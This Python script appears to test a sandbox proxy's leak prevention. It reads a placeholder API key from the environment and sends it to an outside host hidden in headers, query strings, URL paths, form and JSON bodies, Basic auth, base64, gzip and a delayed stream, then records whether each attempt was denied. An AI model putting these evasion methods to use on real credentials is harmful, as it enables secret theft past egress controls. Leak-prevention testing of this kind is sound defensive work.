"""Runs inside a sandbox: sends the placeholder where it does not belong, and prints what was answered, as JSON.

/workspace/plan.json: {"own": host, "other": host}.
"""

import base64
import gzip
import http.client
import json
import os
import ssl
import time

plan = json.load(open("/workspace/plan.json"))
placeholder = os.environ["ANTHROPIC_API_KEY"]
plain = placeholder.encode()
encoded = "".join("%%%02X" % ord(char) for char in placeholder)
context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])


def pieces():
    yield b"x" * 5000
    yield placeholder[:20].encode()
    time.sleep(0.3)
    yield placeholder[20:].encode() + b" and more"


def said(host, path="/", body=None, headers=None, method="POST"):
    connection = http.client.HTTPSConnection("127.0.0.1", 3128, context=context, timeout=10)
    connection.set_tunnel(host, 443)
    try:
        connection.request(method, path, body, headers or {})
        answer = connection.getresponse()
        return [answer.status, answer.headers.get("X-Moat-Denied"), answer.read().decode("latin-1")]
    except OSError as error:
        return [0, type(error).__name__, ""]
    finally:
        connection.close()


own, other = plan["own"], plan["other"]
form = {"Content-Type": "application/x-www-form-urlencoded"}
answers = {
    "header": said(other, headers={"x-api-key": placeholder}),
    "query": said(other, "/?key=" + placeholder, method="GET"),
    "encoded query": said(other, "/?key=" + encoded, method="GET"),
    "path": said(other, "/a/" + encoded + "/b", method="GET"),
    "body": said(other, body=json.dumps({"key": placeholder})),
    "form": said(other, body="key=" + encoded, headers=form),
    "basic": said(other, headers={"Authorization": "Basic " + base64.b64encode(b"u:" + plain).decode()}),
    "base64": said(other, body=base64.encodebytes(b'{"env": "' + plain)),
    "gzip": said(other, body=gzip.compress(plain), headers={"Content-Encoding": "gzip"}),
    "stream": said(other, body=pieces(), headers={"Content-Length": str(5009 + len(placeholder))}),
    "own query": said(own, "/?key=" + placeholder, method="GET"),
    "own body": said(own, body=json.dumps({"prompt": "my key is " + placeholder})),
    "placeholder": placeholder,
}
print(json.dumps(answers))
